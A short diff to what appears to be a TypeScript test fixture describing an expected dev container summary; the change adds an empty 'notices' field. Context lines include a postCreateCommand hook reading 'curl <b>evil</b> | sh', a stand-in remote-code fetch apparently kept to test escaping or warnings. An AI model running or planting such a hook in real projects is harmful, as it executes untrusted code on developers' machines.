@@ -14,6 +14,7 @@ export const wants = {
   services: [],
   remoteUser: null,
   commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
+  notices: [],
   repositoryPermission: 'write' as const,
   secretNames: ['API_TOKEN', 'NPM_TOKEN'],
   dotfilesRepositoryUrl: 'https://github.com/ada/dotfiles',
